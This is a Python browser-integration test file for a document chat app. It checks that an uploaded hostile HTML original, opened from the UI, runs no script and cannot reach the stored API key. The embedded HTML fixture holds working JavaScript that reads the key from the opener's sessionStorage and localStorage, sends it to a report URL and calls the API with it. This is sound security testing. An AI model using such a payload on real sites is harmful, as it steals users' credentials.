"""A hostile HTML original, opened from the chat UI with API keys on, in a real Chromium.

The document's <script> and onerror= try to read the key (from the opener's sessionStorage,
their own storage and localStorage) and call the API; any of them running reports to a
separate loopback server. The test opens the original by clicking the UI's own "Open original"
link and asserts that nothing reported, that the tab cannot reach the key, and that the
original is still shown. A PDF original opens in Chromium's viewer at the cited page.
"""

import http.server
import json
import re
import threading
import time
from collections.abc import Callable, Iterator
from typing import Any

import httpx
import pytest

from tests.app.test_api_contract import wait_job
from tests.ui.ui_support import Corpus, require_playwright

expect = require_playwright().expect

pytestmark = [pytest.mark.integration, pytest.mark.slow]

KEY = "ui-secret-key-4711"
HOSTILE_HTML = """<!doctype html>
<html><head><meta charset="utf-8"><title>Lighthouse notes</title></head><body>
<h1>Lighthouse notes</h1>
<p>The lighthouse keeper's cat is named Biscuit. Biscuit sleeps on the lamp room stairs.</p>
<script>
  const report = (what, data) => { new Image().src = "REPORT/" + what + "?" +
    encodeURIComponent(JSON.stringify(data)); };
  const loot = {};
  try { loot.opener = window.opener && window.opener.sessionStorage.getItem("kotae.apiKey"); }
  catch (e) { loot.opener = "error " + e.name; }
  try { loot.session = sessionStorage.getItem("kotae.apiKey"); } catch (e) {}
  try { loot.local = JSON.stringify(localStorage); } catch (e) {}
  report("script-ran", loot);
  fetch("/v1/documents", {headers: {Authorization: "Bearer " + (loot.opener || loot.session)}})
    .then((r) => r.text()).then((t) => report("api-read", t.slice(0, 200)));
  document.title = "SCRIPT RAN";
</script>
<img src="missing.png" onerror="report('onerror-ran', String(window.opener &&
  window.opener.sessionStorage.getItem('kotae.apiKey')))">
</body></html>
"""
# Run inside the opened tab: everything a script there could learn about the key.
PROBE = """() => {
  const out = {origin: String(self.origin), opener: window.opener === null ? "none" : "present"};
  try { out.openerKey = String(window.opener.sessionStorage.getItem("kotae.apiKey")); }
  catch (e) { out.openerKey = "error " + e.name; }
  try { out.session = String(sessionStorage.getItem("kotae.apiKey")); }
  catch (e) { out.session = "error " + e.name; }
  try { out.local = JSON.stringify(localStorage); } catch (e) { out.local = "error " + e.name; }
  return out;
}"""


@pytest.fixture
def reports() -> Iterator[tuple[str, list[str]]]:
    """A loopback server that records every request: the hostile page's way to report."""
    hits: list[str] = []

    class Recorder(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            hits.append(self.path)
            self.send_response(204)
            self.end_headers()

        def log_message(self, *args: Any) -> None:
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Recorder)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_address[1]}", hits
    server.shutdown()


@pytest.fixture
def keyed_server(serve: Callable[..., Any], tmp_path: Any) -> str:
    server = serve(tmp_path / "data", KOTAE_GENERATOR_URL="", KOTAE_API_KEYS=KEY)
    return str(server.base_url)


def upload(base: str, files: list[tuple[str, bytes]]) -> None:
    headers = {"Authorization": f"Bearer {KEY}"}
    with httpx.Client(base_url=base, headers=headers, timeout=60) as client:
        response = client.post("/v1/documents", files=[("files", f) for f in files])
        assert response.status_code == 202, response.text
        assert wait_job(client, response.json()["job_id"])["status"] == "done"


def ask(page: Any, question: str, index: int) -> Any:
    box = page.locator("#question")
    box.fill(question)
    box.press("Enter")
    answer = page.locator(".msg-assistant").nth(index)
    expect(answer).not_to_have_class(re.compile(r"\bstreaming\b"), timeout=60_000)
    return answer


def open_original(page: Any, answer: Any, label: str) -> Any:
    """Clicks the answer's first citation, then the panel's link; returns the new tab."""
    answer.locator(".msg-content button.chip").first.click()
    link = page.locator("#source-panel #source-links a")
    expect(link).to_have_text(label)
    expect(link).to_have_attribute("rel", "noopener noreferrer")
    with page.context.expect_page() as opened:
        link.click()
    tab = opened.value
    tab.wait_for_load_state()
    expect(tab).to_have_url(re.compile(r"/v1/documents/\d+/file\?expires=\d+&signature=\w+"))
    return tab


def test_hostile_original_runs_nothing_and_cannot_reach_the_key(
    browser: Any, keyed_server: str, reports: tuple[str, list[str]], corpus: Corpus
) -> None:
    report_base, hits = reports
    upload(
        keyed_server,
        [
            ("lighthouse.html", HOSTILE_HTML.replace("REPORT", report_base).encode()),
            (corpus.pdf.name, corpus.pdf.read_bytes()),
        ],
    )
    context = browser.new_context(viewport={"width": 1280, "height": 800}, locale="en-US")
    context.set_default_timeout(15_000)
    try:
        page = context.new_page()
        errors: list[str] = []
        page.on("pageerror", lambda error: errors.append(str(error)))
        page.on(
            "console",
            lambda m: errors.append(m.text) if "Content Security Policy" in m.text else None,
        )
        page.goto(keyed_server)

        # The UI asks for the key (its first call got a 401) and keeps it for this tab.
        dialog = page.locator("#key-dialog")
        expect(dialog).to_be_visible()
        page.locator("#key-input").fill(KEY)
        dialog.get_by_role("button", name="Save").click()
        expect(page.locator("#doc-list .doc")).to_have_count(2)
        assert page.evaluate("sessionStorage.getItem('kotae.apiKey')") == KEY

        answer = ask(page, "What is the lighthouse keeper's cat named?", 0)
        expect(answer.locator(".msg-content")).to_contain_text("Biscuit")
        tab = open_original(page, answer, "Open original")

        # Still useful: the HTML is shown, rendered, with its own title and text.
        expect(tab.locator("h1")).to_have_text("Lighthouse notes")
        tab.wait_for_timeout(1500)  # time for a script, an image error or a fetch to report
        assert hits == [], hits
        assert tab.title() == "Lighthouse notes"
        probe = tab.evaluate(PROBE)
        assert KEY not in json.dumps(probe), probe
        assert probe["origin"] == "null" and probe["opener"] == "none", probe
        tab.close()

        # A PDF opens in Chromium's viewer, at the cited page, inside the same sandbox.
        pdf_answer = ask(page, "こより屋の職人は何人ですか？", 1)
        expect(pdf_answer.locator(".msg-content")).to_contain_text("7人")
        pdf_tab = open_original(page, pdf_answer, "Open original at page 2")
        assert pdf_tab.url.endswith("#page=2")
        deadline = time.monotonic() + 15
        while not any(f.url.startswith("chrome-extension://") for f in pdf_tab.frames):
            assert time.monotonic() < deadline, [f.url for f in pdf_tab.frames]
            pdf_tab.wait_for_timeout(200)
        assert errors == [], errors  # the UI itself works under its Content-Security-Policy
        assert hits == [], hits
    finally:
        context.close()


def test_answer_links_never_point_into_the_app(browser: Any, keyed_server: str) -> None:
    context = browser.new_context()
    try:
        page = context.new_page()
        page.goto(keyed_server)
        hrefs = page.evaluate(
            """async () => {
                const { renderMarkdown } = await import("/static/js/markdown.js");
                const own = window.location.origin;
                const cases = ["[a](/v1/documents)", `[b](${own}/v1/documents/1/file)`,
                    `<${own}/v1/documents>`, `see ${own}/v1/jobs/x now`, "[c](./x)", "[d](#x)",
                    "[e](mailto:a@example.org)", "[f](https://example.org/page)"];
                return cases.map((text) => {
                    const box = document.createElement("div");
                    box.append(renderMarkdown(text));
                    return [...box.querySelectorAll("a")].map((a) => a.getAttribute("href"));
                });
            }"""
        )
        assert hrefs == [[], [], [], [], [], [], [], ["https://example.org/page"]]
    finally:
        context.close()
